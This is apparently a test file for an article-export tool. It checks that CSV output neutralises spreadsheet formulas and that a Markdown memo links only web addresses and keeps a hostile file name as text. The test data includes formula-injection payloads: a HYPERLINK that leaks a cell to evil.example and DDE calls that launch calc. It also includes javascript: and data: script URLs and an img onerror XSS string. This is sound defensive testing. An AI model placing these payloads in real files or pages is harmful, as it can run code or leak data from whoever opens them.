// Exports opened by other programs: a CSV cell a spreadsheet would run as a
// formula is written as text (and read back exactly), the memo links web
// addresses only, and a file name cannot inject lines or HTML into the memo.
import { strict as assert } from 'node:assert';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { CLAIM_COLUMNS, claimsCsv, csvField, csvUnneutralise, entitiesCsv } from '../../server/src/export/csv';
import { exportMarkdown } from '../../server/src/export/markdown';
import type { ExportArticle } from '../../server/src/export/types';
import { CAFE, cafeArticle, claimOn } from './sample';

const HOSTILE = ['=HYPERLINK("https://evil.example/?leak="&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '\t=1+1', '\r=1+1', "'=already quoted", "''=twice"];

function hostileArticle(): ExportArticle {
  const article = cafeArticle();
  article.claims = article.claims.map((p, k) => ({
    ...p,
    claim: {
      ...p.claim,
      note: HOSTILE[k % HOSTILE.length],
      source: { text: HOSTILE[(k + 1) % HOSTILE.length], entity: null },
      evidence: [{ url: HOSTILE[(k + 2) % HOSTILE.length], title: null, addedAt: '2026-05-03T08:00:00Z' }],
    },
  }));
  return { ...article, file: '=cmd|calc!A0.article' };
}

const rows = (csv: string) => parse(csv) as string[][];
const TRIGGER = /^[=+\-@\t\r]/;

describe('export safety: CSV formulas', () => {
  it('writes no cell that a spreadsheet would run as a formula', () => {
    for (const csv of [claimsCsv([hostileArticle()]), entitiesCsv([hostileArticle()])]) {
      const cells = rows(csv).flat();
      assert.ok(cells.some((c) => c.startsWith("'=")), 'the hostile cells are there, as text');
      const live = cells.filter((c) => TRIGGER.test(c));
      assert.deepEqual(live, []);
    }
  });

  it('gives back the exact text on reading (round trip), and raw output when asked', () => {
    const safe = rows(claimsCsv([hostileArticle()]));
    const raw = rows(claimsCsv([hostileArticle()], { rawFormulas: true }));
    assert.deepEqual(safe.map((r) => r.map(csvUnneutralise)), raw);
    const note = raw[0].indexOf('note');
    assert.ok(HOSTILE.includes(raw[1][note]), 'raw output is the text itself');
    assert.deepEqual(raw[0], [...CLAIM_COLUMNS]);
  });

  it('round-trips any text through a cell', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme-ascii' }), fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', "'", "''=", "'x"), (s, lead) => {
        const text = lead + s;
        const [[back]] = rows(csvField(text) + '\r\n');
        assert.ok(!TRIGGER.test(back ?? ''), `live formula for ${JSON.stringify(text)}`);
        assert.equal(csvUnneutralise(back ?? ''), text);
      }),
      { numRuns: 3000, seed: 11 },
    );
    assert.equal(csvField(-3), '-3', 'numbers stay numbers');
  });
});

describe('export safety: Markdown memo', () => {
  const md = new MarkdownIt({ html: true, linkify: true });

  function memoHtml(article: ExportArticle): string {
    return md.render(exportMarkdown([article]));
  }

  it('links evidence only to web addresses; javascript: and command: stay plain text', () => {
    const article = cafeArticle();
    const urls = ['javascript:alert(document.cookie)', 'command:workbench.action.terminal.new', 'JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', 'https://example.org/ok?a=1&b=(2)'];
    article.claims = article.claims.map((p, k) => ({
      ...p,
      claim: { ...p.claim, evidence: [{ url: urls[k % urls.length], title: k % 2 ? 'Click me' : null, addedAt: '2026-05-03T08:00:00Z' }] },
    }));
    const html = memoHtml(article);
    const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((m) => m[1]);
    assert.ok(hrefs.length > 0);
    for (const h of hrefs) assert.match(h, /^https?:\/\//, h);
    assert.ok(!/<script/i.test(html));
    assert.ok(html.includes('javascript:alert(document.cookie)'), 'shown as text, not dropped');
  });

  it('keeps a hostile file name on its File: line, as text', () => {
    const article = cafeArticle();
    const file = 'desk/x`\n\n<img src=x onerror=alert(1)>\n# Injected heading\r\n| a | b |\u2028end.article';
    const html = memoHtml({ ...article, file });
    assert.ok(!/<img/i.test(html), html.slice(0, 400));
    assert.ok(!/<h1>Injected/.test(html));
    const memo = exportMarkdown([{ ...article, file }]);
    const fileLine = memo.split('\n').find((l) => l.startsWith('File: '));
    assert.ok(fileLine?.includes('&lt;') === false && fileLine.includes('<img src=x onerror=alert(1)>'), 'the name is there, inside a code span');
    assert.equal(memo.split('\n').filter((l) => l.includes('Injected')).length, 1, 'no line of its own');
  });

  it('still writes a plain web link as a link', () => {
    const article = cafeArticle(CAFE, [claimOn(CAFE, { exact: '37 cafés had closed since January', id: 'x' }, 9)]);
    assert.match(memoHtml(article), /href="https:\/\/example\.org\/stats\?year=2025&amp;city=z%C3%BCrich"/);
  });
});
